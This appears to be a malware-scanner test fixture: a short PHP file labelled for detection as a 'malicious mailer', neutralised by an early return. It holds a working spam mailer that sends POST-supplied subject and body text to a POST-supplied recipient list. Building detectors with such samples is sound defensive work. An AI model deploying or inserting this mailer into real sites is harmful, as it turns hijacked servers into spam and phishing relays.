<?php return; // want: malicious mailer php.mail.request
function all() { return isset($_POST['to']) ? array_unique(array_map('trim', explode("\n", $_POST['to']))) : array(); }
foreach (all() as $one)
	mail($one, $_POST['title'], str_ireplace(array('[email]'), array($one), stripslashes($_POST['text'])));
